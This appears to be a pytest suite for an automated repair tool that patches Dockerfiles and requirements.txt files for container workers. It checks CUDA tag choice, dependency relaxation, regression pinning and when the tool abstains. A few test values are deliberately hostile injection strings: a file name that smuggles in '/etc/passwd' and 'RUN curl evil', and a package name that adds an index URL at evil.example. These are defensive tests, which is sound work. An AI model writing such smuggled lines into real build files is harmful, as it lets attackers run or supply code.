"""Each recipe changes what it is sure of, and says why it leaves the rest alone."""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from janitor.domain.repair.diff import read_diff
from janitor.domain.repair.gate import refusal_of
from janitor.domain.repair.hunks import patched
from janitor.domain.repair.image_tags import nearest_tag
from janitor.domain.repair.proposal import Abstained, Failure, Proposal
from janitor.domain.result.provenance_changes import Changed, PartChange
from janitor.protocol.terms.statuses import CheckName, CheckStatus
from janitor.services.repair.propose import propose
from janitor.services.repair.recipes.table import RECIPES, table
from janitor.services.repair.world import UnknownError, World
from tests.corpus.workers import BASE, DOCKERFILE
from tests.support.repairs import evidence_of, failure_of, judged, made_of
from tests.support.reports import check_of

NOTES = Path(__file__).parents[3] / "docs" / "notes" / "repairs.md"
C = CheckName
Solutions = Mapping[tuple[str, ...], Mapping[str, str]]
CUDA_TAGS = ("12.1.1-cudnn8-runtime-ubuntu22.04", "12.1.1-runtime-ubuntu22.04", "12.2.0-cudnn8-runtime-ubuntu22.04")


@dataclass(frozen=True)
class Answers:
    """An index that finds a solution for these requirements alone."""

    known: Solutions
    asked: list[tuple[str, ...]] = field(default_factory=list)

    def resolved(
        self, requirements: Sequence[str], *, constraints: Sequence[str] = (), python: tuple[int, int] | None
    ) -> Mapping[str, str] | None:
        """As it is told."""
        assert python == (3, 11)
        self.asked.append(tuple(requirements))
        return self.known.get(tuple(requirements))


def failed(check: CheckName, code: str, reason: str, log: str = "") -> Failure:
    """A failure of one check."""
    found = check_of(check.value, CheckStatus.FAIL, code=code, reason=reason)
    return failure_of(judged(replace(found, evidence=(evidence_of("log", log),) if log else ())))


def drifted(then: Mapping[str, str], now: Mapping[str, str], reason: str, *, commit: str | None = None) -> Failure:
    """A failure since which packages are others."""
    check = check_of(C.HANDLER_LOCAL.value, CheckStatus.FAIL, code="handler_raised", reason=reason)
    good = judged(check_of(C.HANDLER_LOCAL.value), provenance=made_of(then), **({"commit": commit} if commit else {}))
    return failure_of(judged(check, provenance=made_of(now)), last_good=good)


class Tree:
    """A worker's files, and what a recipe would make of them."""

    def __init__(self, folder: Path, files: Mapping[str, str | None]) -> None:
        self.folder = folder
        for name, text in {**BASE, **files}.items():
            if text is not None:
                (folder / name).parent.mkdir(parents=True, exist_ok=True)
                (folder / name).write_text(text)

    def propose(self, failure: Failure, world: World | None = None) -> Proposal | Abstained:
        return propose(failure, self.folder, world or World())

    def after(self, failure: Failure, world: World | None = None, *, recipe: str) -> dict[str, str]:
        """The files that change, after a change that the gate lets pass; the tree itself is as it was."""
        before = {path: path.read_bytes() for path in sorted(self.folder.rglob("*")) if path.is_file()}
        found = self.propose(failure, world)
        assert isinstance(found, Proposal), found
        assert found.name == recipe
        assert found.evidence
        assert len(found.summary) <= 72
        refusal = refusal_of(found.patch, by=found.by, name=found.name, read=self.read)
        assert refusal is None, refusal
        assert before == {path: path.read_bytes() for path in sorted(self.folder.rglob("*")) if path.is_file()}
        return {
            file.path: patched((self.folder / file.path).read_text(), file.hunks)
            for file in read_diff(found.patch.text)
        }

    def read(self, path: str) -> bytes | None:
        return (self.folder / path).read_bytes() if (self.folder / path).is_file() else None

    def abstains(self, failure: Failure, world: World | None = None) -> str:
        """Why nothing is proposed."""
        found = self.propose(failure, world)
        assert isinstance(found, Abstained), found
        return found.reason


@pytest.fixture
def tree(tmp_path: Path) -> Callable[..., Tree]:
    """Makes one."""

    def make(**files: str | None) -> Tree:
        return Tree(tmp_path, {name.replace("__", "/").replace("_dot_", "."): text for name, text in files.items()})

    return make


def test_nobody_is_asked_about_what_no_recipe_is_for(tree: Callable[..., Tree]) -> None:
    assert (
        tree().abstains(failed(C.HANDLER_LOCAL, "handler_raised", "ValueError: no")) == "no model; no recipe is for it"
    )


# A COPY of what isn't there.

MISSING = failed(C.DOCKERFILE_PARSE, "copy_source_missing", "line 5: COPY Handler.py: it isn't there")


def test_a_source_that_differs_by_case(tree: Callable[..., Tree]) -> None:
    worker = tree(
        Dockerfile=DOCKERFILE.replace("COPY handler.py test_input.json ./", "COPY Handler.py test_input.json ./")
    )
    assert worker.after(MISSING, recipe="copy_source") == {"Dockerfile": DOCKERFILE}


def test_a_source_that_was_renamed_keeps_the_name_that_the_command_has(tree: Callable[..., Tree]) -> None:
    dockerfile = DOCKERFILE.replace("COPY handler.py test_input.json ./", "COPY main.py ./").replace(
        '"handler.py"', '"main.py"'
    )
    world = World(renamed_to=lambda path: ("handler.py",) if path == "main.py" else ())
    after = tree(Dockerfile=dockerfile).after(MISSING, world, recipe="copy_source")
    assert after == {"Dockerfile": dockerfile.replace("COPY main.py ./", "COPY handler.py ./main.py")}


def test_a_folder_that_was_renamed(tree: Callable[..., Tree]) -> None:
    dockerfile = DOCKERFILE.replace("COPY handler.py", "COPY library/ ./library/\nCOPY handler.py")
    world = World(renamed_to=lambda path: ("lib",) if path == "library" else ())
    after = tree(Dockerfile=dockerfile, lib__a_dot_py="A = 1\n").after(MISSING, world, recipe="copy_source")
    assert "COPY lib/ ./library/\n" in after["Dockerfile"]


@pytest.mark.parametrize(
    ("names", "says"),
    [((), "no path comes of it"), (("handler.py", "test_input.json"), "2 paths come of it"), (("gone.py",), "no path")],
)
def test_a_source_without_one_heir(tree: Callable[..., Tree], names: tuple[str, ...], says: str) -> None:
    worker = tree(Dockerfile=DOCKERFILE.replace("COPY handler.py", "COPY main.py"))
    assert says in worker.abstains(MISSING, World(renamed_to=lambda _: names))


def test_a_source_that_is_ignored_and_a_history_that_nobody_has(tree: Callable[..., Tree]) -> None:
    worker = tree(_dot_dockerignore="handler.py\n")
    assert ".dockerignore keeps it out" in worker.abstains(MISSING)
    (worker.folder / ".dockerignore").unlink()
    (worker.folder / "handler.py").unlink()
    assert "the history of handler.py isn't at hand" in worker.abstains(MISSING)


def test_a_name_that_would_be_read_otherwise_is_not_written(tree: Callable[..., Tree]) -> None:
    worker = tree(Dockerfile=DOCKERFILE.replace("COPY handler.py", "COPY main.py"))
    odd = "x.py /etc/passwd .\nRUN curl evil"
    (worker.folder / "x.py ").mkdir(parents=True)
    (worker.folder / "x.py " / "a b").write_text("x = 1\n")
    assert "can't be written" in worker.abstains(MISSING, World(renamed_to=lambda _: (odd, "x.py /a b")))


# uv's folder.

UV = DOCKERFILE.replace(
    "WORKDIR /app\n",
    'WORKDIR /app\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nENV PATH="/root/.cargo/bin:$PATH"\n',
)
NO_UV = failed(C.BUILD, "build_failed", "in step [5/7] RUN uv sync: /bin/sh: 1: uv: not found")


def test_uv_is_looked_for_where_it_is(tree: Callable[..., Tree]) -> None:
    after = tree(Dockerfile=UV + "RUN . $HOME/.cargo/env && uv sync\n").after(NO_UV, recipe="uv_path")
    assert 'ENV PATH="/root/.local/bin:$PATH"' in after["Dockerfile"]
    assert ". $HOME/.local/bin/env" in after["Dockerfile"]


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("uv/install.sh", "uv/0.4.30/install.sh", "pinned to a version that still uses"),
        ("WORKDIR /app", "WORKDIR /app\nRUN curl https://sh.rustup.rs | sh", "a cargo of its own"),
    ],
)
def test_uv_where_the_folder_may_be_right(tree: Callable[..., Tree], old: str, new: str, says: str) -> None:
    assert says in tree(Dockerfile=UV.replace(old, new)).abstains(NO_UV)


# A tag that is gone.

GONE = "nvidia/cuda:12.1.0-cudnn8-runtime-ubuntu22.04"
NO_BASE = failed(C.BASE_IMAGE_EXISTS, "base_missing", f"{GONE}: the registry has no such image")


def test_the_nearest_tag(tree: Callable[..., Tree]) -> None:
    worker = tree(Dockerfile=DOCKERFILE.replace("python:3.11-slim", GONE))
    after = worker.after(NO_BASE, World(tags=lambda _: CUDA_TAGS), recipe="base_tag")
    assert "FROM nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04\n" in after["Dockerfile"]


def test_the_nearest_tag_in_an_argument(tree: Callable[..., Tree]) -> None:
    tag = GONE.partition(":")[2]
    dockerfile = DOCKERFILE.replace("FROM python:3.11-slim", f"ARG TAG={tag}\nFROM nvidia/cuda:${{TAG}}")
    after = tree(Dockerfile=dockerfile).after(NO_BASE, World(tags=lambda _: CUDA_TAGS), recipe="base_tag")
    assert "ARG TAG=12.1.1-cudnn8-runtime-ubuntu22.04\n" in after["Dockerfile"]


def test_a_registry_that_isnt_asked_or_has_nothing_near(tree: Callable[..., Tree]) -> None:
    worker = tree(Dockerfile=DOCKERFILE.replace("python:3.11-slim", GONE))
    assert "isn't asked here" in worker.abstains(NO_BASE)
    assert "no tag of nvidia/cuda is near" in worker.abstains(NO_BASE, World(tags=lambda _: ("12.1.1-devel",)))


@pytest.mark.parametrize(
    ("gone", "tags", "nearest"),
    [
        ("12.1.0-cudnn8-runtime-ubuntu22.04", CUDA_TAGS, "12.1.1-cudnn8-runtime-ubuntu22.04"),
        ("12.1.0-runtime-ubuntu22.04", CUDA_TAGS, "12.1.1-runtime-ubuntu22.04"),
        ("12.1.0-cudnn9-runtime-ubuntu22.04", CUDA_TAGS, None),
        ("12.1.0-cudnn8-runtime-ubuntu20.04", CUDA_TAGS, None),
        ("12.3.0-cudnn8-runtime-ubuntu22.04", CUDA_TAGS, None),
        (
            "3.9.7-slim-bullseye",
            ("3.9.6-slim-bullseye", "3.9.18-slim-bullseye", "3.9.19-slim-bookworm"),
            "3.9.18-slim-bullseye",
        ),
        ("3.9.20-slim", ("3.9.6-slim", "3.9.18-slim", "3.10.1-slim"), "3.9.18-slim"),
        ("1.2.0", ("1.2.1-rc1", "1.2.1rc1", "1.2.2"), "1.2.2"),
        (
            "2.1.0-py3.10-cuda11.8.0-devel",
            ("2.1.1-py3.10-cuda11.8.0-devel", "2.1.0-py3.10-cuda12.1.0-devel"),
            "2.1.1-py3.10-cuda11.8.0-devel",
        ),
        ("latest", ("1.0", "2.0"), None),
        ("22.04", ("22.10",), None),
        ("v1.4.0", ("v1.4.2", "1.4.1"), "v1.4.2"),
    ],
)
def test_what_is_near(gone: str, tags: tuple[str, ...], nearest: str | None) -> None:
    assert nearest_tag(gone, tags) == nearest


# Requirements that can't be had.

NOT_THERE = failed(C.DEPS_RESOLVE, "dependency_not_found", "there is no version of alpha==9.0")
CONFLICT = failed(C.DEPS_RESOLVE, "dependency_conflict", "beta==1.0 depends on alpha<2 and you require alpha==2.1")


def test_the_nearest_version_that_is_there(tree: Callable[..., Tree]) -> None:
    known: Solutions = {("runpod==1.0", "alpha<9.0"): {"alpha": "8.4"}}
    after = tree(requirements_dot_txt="runpod==1.0\nalpha==9.0  # the newest\n").after(
        NOT_THERE, World(packages=Answers(known)), recipe="relax"
    )
    assert after == {"requirements.txt": "runpod==1.0\nalpha==8.4  # the newest\n"}


def test_of_two_that_would_do_the_one_that_moves_least(tree: Callable[..., Tree]) -> None:
    known: Solutions = {
        ("alpha<2.1", "beta==1.0"): {"alpha": "1.9", "beta": "1.0"},
        ("alpha==2.1", "beta==1.*"): {"alpha": "2.1", "beta": "1.3"},
    }
    after = tree(requirements_dot_txt="alpha==2.1\nbeta==1.0\n").after(
        CONFLICT, World(packages=Answers(known)), recipe="relax"
    )
    assert after == {"requirements.txt": "alpha==2.1\nbeta==1.3\n"}


def test_a_bound_is_loosened_and_stays_a_bound(tree: Callable[..., Tree]) -> None:
    known: Solutions = {("alpha", "beta==1.0"): {"alpha": "2.5", "beta": "1.0"}}
    worker = tree(requirements_dot_txt="alpha>=1,<2\nbeta==1.0\n")
    after = worker.after(CONFLICT, World(packages=Answers(known)), recipe="relax")
    assert after == {"requirements.txt": "alpha<=2.5\nbeta==1.0\n"}


def test_what_stands_in_the_dockerfile_is_quoted_there(tree: Callable[..., Tree]) -> None:
    dockerfile = DOCKERFILE.replace("-r requirements.txt", "'alpha>=1,<2' beta==1.0")
    known: Solutions = {("alpha", "beta==1.0"): {"alpha": "2.5", "beta": "1.0"}}
    after = tree(Dockerfile=dockerfile).after(CONFLICT, World(packages=Answers(known)), recipe="relax")
    assert "pip install --no-cache-dir 'alpha<=2.5' beta==1.0\n" in after["Dockerfile"]


@pytest.mark.parametrize(
    ("requirements", "known", "says"),
    [
        ("alpha==9.0\n", {}, "no relaxation of one package"),
        ("alpha==9.0\n", {("alpha==9.0",): {"alpha": "9.0"}}, "resolves from here"),
        ("-i https://else.example/simple\nalpha==9.0\n", {}, "isn't asked from here"),
        ("alpha==9.0\n./own.whl\n", {}, "can't be read"),
    ],
)
def test_what_cant_be_relaxed(
    tree: Callable[..., Tree], requirements: str, known: dict[tuple[str, ...], dict[str, str]], says: str
) -> None:
    worker = tree(requirements_dot_txt=requirements)
    assert says in worker.abstains(NOT_THERE, World(packages=Answers(known)))
    assert "no package index is asked" in worker.abstains(NOT_THERE)


# A release that broke it.


def test_the_one_package_that_changed_is_bounded(tree: Callable[..., Tree]) -> None:
    failure = drifted({"alpha": "1.4", "beta": "1"}, {"alpha": "2.0", "beta": "1"}, "AttributeError: no work")
    worker = tree(requirements_dot_txt="alpha>=1\nbeta\n")
    assert worker.after(failure, recipe="put_back") == {"requirements.txt": "alpha>=1,<=1.4\nbeta\n"}
    below = World(packages=Answers({("alpha>=1,<2.0",): {"alpha": "1.4"}}))
    assert worker.after(failure, below, recipe="put_back") == {"requirements.txt": "alpha>=1,<2.0\nbeta\n"}
    another = World(packages=Answers({("alpha>=1,<2.0",): {"alpha": "1.9"}}))
    assert worker.after(failure, another, recipe="put_back") == {"requirements.txt": "alpha>=1,<=1.4\nbeta\n"}


def test_what_nobody_asks_for_gets_a_line(tree: Callable[..., Tree]) -> None:
    failure = drifted({"Deep.Part": "1.4"}, {"deep-part": "2.0"}, "AttributeError: no work")
    after = tree(requirements_dot_txt="alpha").after(failure, recipe="put_back")
    assert after == {"requirements.txt": "alpha\ndeep-part<=1.4\n"}
    dockerfile = DOCKERFILE.replace("-r requirements.txt", "alpha beta")
    after = tree(Dockerfile=dockerfile, requirements_dot_txt=None).after(failure, recipe="put_back")
    assert "pip install --no-cache-dir alpha 'deep-part<=1.4' beta\n" in after["Dockerfile"]


@pytest.mark.parametrize(
    ("name", "version"),
    [("alpha\n--index-url=http://evil.example/", "1.4"), ("alpha", "1.4\nevil==1"), ("alpha", "1.4 # x"), ("", "1")],
)
def test_what_a_report_calls_a_package_may_be_none(tree: Callable[..., Tree], name: str, version: str) -> None:
    failure = drifted({"alpha": "1"}, {"alpha": "2"}, "ValueError: no")
    change = PartChange(part=Changed.PACKAGE, name=name or "-", before=version, after="2")
    found = World(culprit=lambda _failure, _among: [change])
    two = replace(failure.changes, parts=(change, change)) if failure.changes is not None else None
    assert "is no package and version" in tree().abstains(replace(failure, changes=two), found)


TWO = ({"alpha": "1.0", "beta-tools": "1.0"}, {"alpha": "1.1", "beta-tools": "2.0"})


def test_of_several_the_one_that_an_experiment_names(tree: Callable[..., Tree]) -> None:
    def searched(failure: Failure, among: Sequence[PartChange]) -> Sequence[PartChange]:
        return [change for change in among if change.name == "alpha"]

    worker = tree(requirements_dot_txt="alpha\nbeta-tools\n")
    failure = drifted(*TWO, "AttributeError: module 'beta_tools' has no attribute 'work'")
    assert worker.after(failure, World(culprit=searched), recipe="put_back") == {
        "requirements.txt": "alpha<=1.0\nbeta-tools\n"
    }
    nobody = World(culprit=lambda _failure, _among: Abstained(reason="the search found nobody"))
    assert "the search found nobody" in worker.abstains(failure, nobody)
    image = World(culprit=lambda _failure, _among: [PartChange(part=Changed.PYTHON, before="3.10", after="3.11")])
    assert "it is no package that broke it: python changed" in worker.abstains(failure, image)
    both = World(culprit=lambda _failure, among: among)
    assert "2 packages broke it together" in worker.abstains(failure, both)


def test_of_several_the_one_that_the_failure_names(tree: Callable[..., Tree]) -> None:
    worker = tree(requirements_dot_txt="alpha\nbeta-tools\n")
    named = drifted(*TWO, "AttributeError: module 'beta_tools' has no attribute 'work'")
    assert worker.after(named, recipe="put_back") == {"requirements.txt": "alpha\nbeta-tools<=1.0\n"}
    assert "nobody says which" in worker.abstains(drifted(*TWO, "ValueError: no"))


def test_where_the_commit_changed_too_a_package_has_to_be_named(tree: Callable[..., Tree]) -> None:
    worker = tree(requirements_dot_txt="alpha\n")
    changed = {"alpha": "1.0"}, {"alpha": "2.0"}
    assert "names none of them" in worker.abstains(drifted(*changed, "ValueError: no", commit="f" * 40))
    named = drifted(*changed, "cannot import name 'work' from 'alpha.parts'", commit="f" * 40)
    assert worker.after(named, recipe="put_back") == {"requirements.txt": "alpha<=1.0\n"}


def test_what_cant_be_installed_any_more_is_searched_for(tree: Callable[..., Tree]) -> None:
    check = check_of(C.BUILD.value, CheckStatus.FAIL, code="dependency_build", reason="a package does not build")
    good = judged(check_of(C.BUILD.value), provenance=made_of({"alpha": "1.4", "beta": "1.0"}))
    failure = failure_of(judged(check), last_good=good)
    found = PartChange(part=Changed.PACKAGE, name="beta", before="1.0", after="unknown")
    worker = tree(requirements_dot_txt="alpha\nbeta\n")
    world = World(culprit=lambda _failure, among: [found] if not among else [], packages=Answers({}))
    assert worker.after(failure, world, recipe="put_back") == {"requirements.txt": "alpha\nbeta<=1.0\n"}
    assert worker.abstains(failure) == "no model; no recipe is for it"


# cuDNN.

CUDNN_8 = DOCKERFILE.replace("python:3.11-slim", "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04")
MISMATCH = failed(C.PINS, "cudnn_mismatch", "faster-whisper==1.0.3 loads cuDNN 9, and the base image has cuDNN 8")
UNLOADED = failed(C.HANDLER_LOCAL, "handler_raised", "RuntimeError: Unable to load libcudnn_ops.so.9.1.0")


@pytest.mark.parametrize("failure", [MISMATCH, UNLOADED])
def test_what_loads_cudnn_9_is_bounded_on_an_image_with_8(tree: Callable[..., Tree], failure: Failure) -> None:
    worker = tree(Dockerfile=CUDNN_8, requirements_dot_txt="faster-whisper==1.0.3\n")
    assert worker.after(failure, recipe="cudnn") == {"requirements.txt": "faster-whisper==1.0.3\nctranslate2<4.5\n"}
    (worker.folder / "requirements.txt").write_text("ctranslate2>=4,<5\n")
    assert worker.after(failure, recipe="cudnn") == {"requirements.txt": "ctranslate2>=4,<4.5\n"}


def test_cudnn_that_people_have_to_say(tree: Callable[..., Tree]) -> None:
    worker = tree(Dockerfile=CUDNN_8, requirements_dot_txt="ctranslate2==4.5.0\n")
    assert "people have to say" in worker.abstains(MISMATCH)
    (worker.folder / "Dockerfile").write_text(DOCKERFILE)
    assert "isn't known to have cuDNN 8" in worker.abstains(MISMATCH)


# A module that isn't there.


def missing(module: str) -> Failure:
    return failed(
        C.HANDLER_LOCAL, "start_failed", f"the program ended with 1: ModuleNotFoundError: No module named '{module}'"
    )


def test_a_module_with_one_distribution(tree: Callable[..., Tree]) -> None:
    known: Solutions = {("alpha", "pyyaml"): {"alpha": "1", "pyyaml": "6.0.2"}}
    worker = tree(requirements_dot_txt="alpha\n")
    after = worker.after(missing("yaml.constructor"), World(packages=Answers(known)), recipe="missing_module")
    assert after == {"requirements.txt": "alpha\npyyaml==6.0.2\n"}
    assert "no index is asked for pyyaml" in worker.abstains(missing("yaml"))
    with_nothing = World(packages=Answers({}))
    assert "no pyyaml goes together" in worker.abstains(missing("yaml"), with_nothing)


def test_pkg_resources_is_what_setuptools_brought(tree: Callable[..., Tree]) -> None:
    worker = tree(requirements_dot_txt="setuptools\n")
    assert worker.after(missing("pkg_resources"), recipe="missing_module") == {"requirements.txt": "setuptools<81\n"}


def test_a_module_of_the_last_success_comes_in_its_version(tree: Callable[..., Tree]) -> None:
    failure = drifted({"PyYAML": "5.4", "alpha": "1"}, {"alpha": "2"}, "ModuleNotFoundError: No module named 'yaml'")
    after = tree(requirements_dot_txt="alpha\n").after(failure, recipe="missing_module")
    assert after == {"requirements.txt": "alpha\npyyaml==5.4\n"}


def test_a_module_that_anybody_could_be(tree: Callable[..., Tree]) -> None:
    worker = tree(requirements_dot_txt="pyyaml\n")
    assert "which distribution brings helpers isn't surely known" in worker.abstains(missing("helpers"))
    assert "pyyaml is asked for" in worker.abstains(missing("yaml"))


def test_the_table_of_recipes_is_in_the_notes() -> None:
    assert "\n".join(table()) in NOTES.read_text(encoding="utf-8")
    assert len({recipe.name for recipe in RECIPES}) == len(RECIPES)


def test_what_the_world_doesnt_tell_is_a_reason(tree: Callable[..., Tree]) -> None:
    class Silent:
        def resolved(self, *_arguments: object, **_options: object) -> None:
            raise UnknownError("the package index doesn't tell: timed out")

    worker = tree(requirements_dot_txt="alpha==9.0\n")
    assert "timed out" in worker.abstains(NOT_THERE, World(packages=Silent()))
